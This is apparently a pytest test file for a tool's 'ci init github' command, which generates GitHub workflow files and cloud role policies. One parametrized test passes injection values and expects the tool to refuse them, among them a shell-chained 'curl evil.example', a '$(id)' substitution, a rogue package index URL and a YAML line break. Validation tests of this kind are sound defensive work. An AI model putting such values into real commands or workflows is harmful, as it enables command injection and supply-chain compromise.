"""`ci init`: where its files go, what stands in them, what it refuses to write, and what it says is left to do."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from support.git_repository import SETTINGS, Repository
from support.projects import PROJECT, Shop, tree

from templatesync.commands.ci_init import examples

ROOT = Path(__file__).parents[2]
REAL = PROJECT.replace(
    "default_space: local\n",
    "  production:\n    cust_space_id: cams-kei0000\n    vars: {site: https://www.example.com}\n",
)
PROVIDER = "acs:ram::1234567890123456:oidc-provider/Hub"
PLAN, APPLY = "acs:ram::1234567890123456:role/reads", "acs:ram::1234567890123456:role/writes"


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repository:
    for name, value in SETTINGS.items():
        monkeypatch.setenv(name, value)
    made = Repository.new(tmp_path / "repository")
    made.git("remote", "add", "origin", "https://ann:secret@github.com/acme/Shop.git")
    return made


@pytest.fixture
def shop(repository: Repository, capsys: pytest.CaptureFixture[str]) -> Shop:
    made = Shop(repository.root, capsys)
    made.write("templatesync.yaml", REAL)
    return made


def written(root: Path) -> dict[str, str]:
    return {
        path.relative_to(root).as_posix(): path.read_text(encoding="utf-8")
        for path in sorted((root / ".github").rglob("*"))
        if path.is_file()
    }


def test_the_files_and_what_is_left(shop: Shop, compare: Callable[[str, str], None]) -> None:
    ended = shop.run("ci", "init", "github")
    assert (ended.code, ended.err) == (0, "")
    assert "secret" not in ended.out
    listed, _, left = ended.out.partition("\n\n")
    compare("ci_init_github", left)
    assert max(map(len, left.splitlines())) <= 80, "a terminal would break a command within a word"
    files = written(shop.root)
    assert listed.splitlines() == [f"+ {name}" for name in files]
    assert {".github/workflows/plan.yml", ".github/actions/templatesync/comment.sh"} <= files.keys()
    assert [name for name, text in files.items() if re.search("@[A-Z_]+@", text)] == []


def test_the_examples_are_what_is_written() -> None:
    """`make docs` writes them."""
    shown = {
        path.relative_to(ROOT).as_posix(): path.read_text(encoding="utf-8")
        for path in [*(ROOT / "examples" / "ci").rglob("*"), ROOT / "action.yml"]
        if path.is_file()
    }
    assert shown == examples()


def test_the_action_of_this_repository_finds_its_scripts() -> None:
    text = (ROOT / "action.yml").read_text(encoding="utf-8")
    named = re.findall(r"\$GITHUB_ACTION_PATH/([\w./-]+)", text)
    assert len(named) == text.count("run: sh ") > 2
    assert [name for name in named if not (ROOT / name).is_file()] == []


def test_a_second_run_finds_all_as_it_would_be(shop: Shop) -> None:
    shop.run("ci", "init", "github")
    before = tree(shop.root)
    ended = shop.run("ci", "init", "github", "--format", "json")
    told = json.loads(ended.out)
    assert (ended.code, told["written"], told["kept"]) == (0, [], sorted(written(shop.root)))
    assert tree(shop.root) == before


def test_a_file_that_is_there_stays_and_nothing_else_is_written(shop: Shop) -> None:
    shop.write(".github/actions/templatesync/comment.sh", "echo mine\n")
    before = tree(shop.root)
    ended = shop.run("ci", "init", "github")
    assert ended.code == 64
    assert ".github/actions/templatesync/comment.sh is there already" in ended.err
    assert tree(shop.root) == before


@pytest.mark.parametrize("what", ["file", "folder"])
def test_nothing_is_written_through_a_link(shop: Shop, tmp_path: Path, what: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    if what == "folder":
        (shop.root / ".github").symlink_to(tmp_path / "elsewhere")
    else:
        (shop.root / ".github" / "actions" / "templatesync").mkdir(parents=True)
        (shop.root / ".github/actions/templatesync/comment.sh").symlink_to(tmp_path / "elsewhere" / "comment.sh")
    assert shop.run("ci", "init", "github").code in (1, 64)
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_project_in_a_folder_of_its_repository(repository: Repository, capsys: pytest.CaptureFixture[str]) -> None:
    made = Shop(repository.root / "apps" / "whatsapp", capsys)
    made.write("templatesync.yaml", REAL)
    told = json.loads(made.run("ci", "init", "github", "--format", "json").out)
    assert (told["folder"], told["repository"]) == ("apps/whatsapp", "acme/Shop")
    assert written(repository.root).keys() == set(told["written"])


def test_the_branch_that_others_are_merged_into(shop: Shop, repository: Repository) -> None:
    repository.commit()
    repository.git("checkout", "-q", "-b", "my-change")
    assert json.loads(shop.run("ci", "init", "github", "--format", "json").out)["branch"] == "main"
    repository.git("update-ref", "refs/remotes/origin/trunk", "HEAD")
    repository.git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/trunk")
    (shop.root / ".github").rename(shop.root / "earlier")
    assert json.loads(shop.run("ci", "init", "github", "--format", "json").out)["branch"] == "trunk"


def test_without_git_and_with_an_emulator_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """All is written, and what is missing is said."""
    made = Shop(tmp_path / "shop", capsys)
    ended = made.run("ci", "init", "github")
    assert ended.code == 0
    assert "templatesync.yaml has no space production yet" in ended.out
    assert "This folder is in no git repository" in ended.out
    assert "OWNER/REPOSITORY stands for what GitHub calls yours" in ended.out


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["--provider-arn", "acs:ram::1:user/x"], "--provider-arn cannot be"),
        (["--plan-role", f'{PLAN}"\n      evil: "1'], "--plan-role cannot be"),
        (["--apply-role", f"{APPLY}\n"], "--apply-role cannot be"),
        (["--apply-role", "${{ secrets.X }}"], "--apply-role cannot be"),
        (["--environment", "a b"], "--environment cannot be"),
        (["--environment", "ä"], "--environment cannot be"),
        (["--package", "templatesync; curl evil.example"], "--package cannot be"),
        (["--package", "--index-url=https://evil.example"], "--package cannot be"),
        (["--package", "$(id)"], "--package cannot be"),
        (["--space", "local"], "local is an emulator"),
        (["--space", "nowhere"], "there is no space 'nowhere'"),
        (["--space", "prod*"], "prod* is a pattern: how is its environment to be called?"),
        (["--space", "production", "--space", "production"], "a pipeline is for one --space"),
        (["--space", "production", "--all-spaces"], "exclude each other"),
    ],
)
def test_what_cannot_stand_in_a_workflow_is_refused(shop: Shop, arguments: list[str], said: str) -> None:
    ended = shop.run("ci", "init", "github", *arguments)
    assert (ended.code, ended.out) == (64, "")
    assert said in ended.err
    assert not (shop.root / ".github").exists()


@pytest.mark.parametrize("name", ['evil"${{x}}', "it's", "a b"])
def test_a_branch_or_folder_that_would_be_obeyed_is_refused(
    repository: Repository, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    made = Shop(repository.root / name, capsys)
    made.write("templatesync.yaml", REAL)
    ended = made.run("ci", "init", "github")
    assert ended.code == 64
    assert "cannot be written into a workflow" in ended.err


def test_what_is_given_is_written_and_asked_for_no_more(shop: Shop) -> None:
    given = ["--provider-arn", PROVIDER, "--plan-role", PLAN, "--apply-role", APPLY]
    ended = shop.run("ci", "init", "github", "--all-spaces", *given)
    assert ended.code == 0
    assert "gh variable set" not in ended.out
    assert "in the environment all." in ended.out
    assert "RoleName reads" in ended.out
    assert re.findall("vars.TEMPLATESYNC_(?!SETTLE)", "".join(written(shop.root).values())) == []


def test_the_policies_are_json_that_a_shell_hands_over_whole(shop: Shop) -> None:
    out = shop.run("ci", "init", "github").out
    documents = [json.loads(word) for word in shlex.split(out) if word.startswith('{"Version"')]
    subjects = [each["Statement"][0]["Condition"]["StringEquals"]["oidc:sub"] for each in documents]
    assert subjects == [
        ["repo:acme/Shop:pull_request", "repo:acme/Shop:ref:refs/heads/main"],
        ["repo:acme/Shop:environment:production", "repo:acme/Shop:environment:production-unreviewed"],
    ]


def test_the_steps_for_github_are_a_script(shop: Shop, tmp_path: Path) -> None:
    """As copied: gh is asked for both environments, with a reviewer, and only the default branch may use them."""
    out = shop.run("ci", "init", "github").out
    steps = out[out.index("   gh variable set") : out.index("4. Protect")]
    program = tmp_path / "bin" / "gh"
    program.parent.mkdir()
    program.write_text('#!/bin/sh\ncase "$2" in users/*) echo 7;; *) echo "$@"; cat;; esac\n')
    program.chmod(0o755)
    around = {"PATH": f"{program.parent}:/usr/bin:/bin"}
    done = subprocess.run(
        ["sh", "-euc", steps], stdin=subprocess.DEVNULL, capture_output=True, text=True, check=True, env=around
    )
    rules = '{"reviewers": [{"type": "User", "id": 7}],'
    assert done.stdout.count(rules) == 2
    for name in ("production", "production-unreviewed"):
        assert f"api -X PUT repos/acme/Shop/environments/{name} --input -" in done.stdout
